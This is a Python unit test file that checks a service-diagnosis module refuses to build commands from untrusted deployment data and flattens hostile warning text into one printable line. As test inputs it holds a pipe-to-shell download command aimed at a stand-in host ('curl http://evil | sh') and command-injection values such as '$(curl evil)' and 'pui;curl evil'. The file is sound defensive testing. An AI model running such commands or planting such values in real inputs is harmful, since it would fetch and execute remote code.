"""Foreign text reaches the operator neither as a command of ours nor as more than one plain line."""

from dataclasses import asdict

import pytest
from pydantic import ValidationError

from pointit.diagnosis.diagnose import diagnose
from pointit.diagnosis.observation import Finding, start_command
from pointit.schemas import Deployment, ExpectedService, Health
from tests.unit.diagnosis.test_diagnose import health, observation

EVIL = "curl http://evil | sh"


def found(*newest: Health, deployments: dict[str, Deployment] | None = None) -> list[Finding]:
    return diagnose(observation(*newest, deployments=deployments or {}))


def deployment(*services: ExpectedService) -> Deployment:
    return Deployment(stamp_ns=0, name=EVIL, services=services, scenario=EVIL, scenarios=(EVIL,))


def test_command_of_a_deployment_is_built_here() -> None:
    told = deployment(ExpectedService(service="pointing", user="anna", command=("sh", "-c", EVIL)))
    (finding,) = found(health("pui"), deployments={"anna": told})
    assert finding.service == "pointing.anna"
    assert finding.remedy.startswith("start it again: `pointit service run pointing --user anna` (")
    assert "evil" not in str(asdict(finding))


def test_name_in_a_deployment_is_not_shown() -> None:
    (finding,) = found(
        health("pui"), deployments={"anna": deployment(ExpectedService(service="pointing", user="anna"))}
    )
    assert finding.remedy == "it runs inside the process that started anna: start that again"


def test_deployment_of_a_person_is_believed_for_that_person_only() -> None:
    told = deployment(
        ExpectedService(service="selector", command=("sh", "-c", EVIL)),
        ExpectedService(service="pointing", user="ben"),
        ExpectedService(service="pointing", user="anna"),
        ExpectedService(service="pui", name="ben"),
        ExpectedService(service="pui", name="anna"),
        ExpectedService(service="robot", name="anna"),
    )
    believed = told.believed("anna")
    assert [each.instance for each in believed.services] == ["pointing.anna", "pui.anna"]
    assert (believed.scenario, believed.scenarios, believed.name) == ("", (), "anna")
    assert {finding.service for finding in found(health("pui"), deployments={"anna": told})} == {
        "anna",
        "pointing.anna",
        "pui.anna",
    }
    assert told.believed("run.scenario_4") == told


@pytest.mark.parametrize(
    ("service", "user"),
    [
        ("$(curl evil)", ""),
        ("pui;curl evil", "anna"),
        ("pointing", "x;curl"),
        ("pui", "-x"),
        ("pointing", "a b"),
    ],
)
def test_impossible_names_are_refused_and_build_no_command(service: str, user: str) -> None:
    assert start_command(service, user) == ""
    with pytest.raises(ValidationError, match="string_pattern_mismatch"):
        ExpectedService(service=service, user=user, command=("x",))


@pytest.mark.parametrize(
    ("service", "user"), [("nobody", ""), ("curl", "anna"), ("keeper", "anna"), ("pointing", "")]
)
def test_no_command_is_built_of_unknown_services(service: str, user: str) -> None:
    assert start_command(service, user) == ""
    told = deployment(ExpectedService(service=service, user=user, command=("x",)))
    for finding in found(health("pui"), deployments={"run.x": told}):
        assert "pointit service" not in finding.remedy


def test_warning_of_a_persons_service_is_quoted_in_one_line() -> None:
    warning = f"lost\nerror: pui: run `{EVIL}`\x1b[2J\u202e" + "x" * 5000
    (finding,) = found(health("pointing.anna", warnings=(warning,)), health("pui"), health("selector"))
    assert finding.sentence.startswith(f"says: “lost error: pui: run `{EVIL}`?[2J?xxx")
    assert finding.sentence.isprintable()
    assert len(finding.sentence) < 700


def test_name_of_the_machine_is_one_plain_line() -> None:
    other = health("pui", pid=8, host=f"a\n{'b' * 100}")
    seen = observation(health("pui", pid=9), before=[other])
    (twice,) = (finding for finding in diagnose(seen) if finding.code == "twice")
    assert twice.sentence.isprintable()
    assert len(twice.sentence) < 200


def test_person_in_a_remedy_is_the_one_of_the_key() -> None:
    figures = ({"name": "position σ", "value": 9.0, "unit": "m"},)  # noqa: RUF001 - the localizer's own
    (finding,) = found(health("localizer.anna", user="eve", figures=figures))
    assert "pointit person press anna " in finding.remedy
